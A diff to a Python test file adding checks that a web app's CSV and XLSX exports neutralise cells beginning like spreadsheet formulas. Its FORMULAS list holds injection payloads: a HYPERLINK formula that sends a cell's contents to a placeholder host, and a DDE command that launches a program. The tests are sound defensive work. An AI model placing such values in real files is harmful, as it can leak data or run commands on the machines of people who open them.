@@ -157,6 +157,52 @@ def test_csv_and_xlsx_exports_contain_exactly_what_is_shown(client, setup, catal
     assert len(values) == 2
 
 
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&B3,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+]
+
+
+def test_a_spreadsheet_cell_starting_like_a_formula_gets_a_quote_first():
+    from app.spreadsheets import spreadsheet_cell
+
+    for text in [*FORMULAS, "\t=1+1", "\r=1+1"]:
+        assert spreadsheet_cell(text) == "'" + text
+    assert spreadsheet_cell("Amina = 1") == "Amina = 1"
+    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(None) is None
+
+
+def test_exports_neutralise_cells_that_a_spreadsheet_would_run_as_formulas(
+    app, client, create_user, create_cohort, create_participant, create_organisation
+):
+    lead = create_user(Role.FACILITATOR)
+    cohort = create_cohort(name="Formulas", facilitators=[lead])
+    home = create_organisation(name="=1+2 Home")
+    for name in FORMULAS:
+        create_participant(cohort, name=name, home=home)
+    sign_in_as(client, lead)
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                client.get(f"/cohorts/{cohort.id}/export.csv").data.decode("utf-8-sig"),
+                newline="",
+            )
+        )
+    )
+    names = sorted(r[0] for r in rows[1:])
+    assert names == sorted("'" + name for name in FORMULAS)
+    assert {r[2] for r in rows[1:]} == {"'=1+2 Home"}
+
+    sheet = load_workbook(io.BytesIO(client.get(f"/cohorts/{cohort.id}/export.xlsx").data)).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert sorted(cell.value for cell in cells) == names
+    # Numbers stay numbers (the progress column): only text is touched.
+    assert all(isinstance(row[5].value, int) for row in sheet.iter_rows(min_row=2))
+
+
 def test_a_second_exchange_replaces_the_first_in_the_cohort_pages(
     app, client, setup, create_organisation
 ):
@@ -212,7 +258,8 @@ def test_participant_detail_shows_progress_answers_and_goals(app, client, setup,
     sign_in_as(client, setup["lead"])
     page = client.get(f"/cohorts/{setup['mine'].id}/participants/{setup['behind'].id}").text
     assert "Facilitate a workshop" in page
-    assert f'<th scope="row">{_ex.id}</th>' in page  # the answer is listed by exercise
+    # The answer is listed under its module, by its question, not by an internal id.
+    assert " ".join(_ex["prompt"].split()) in page and f">{_ex.id}<" not in page
     assert "Progress over time" in page
 
 
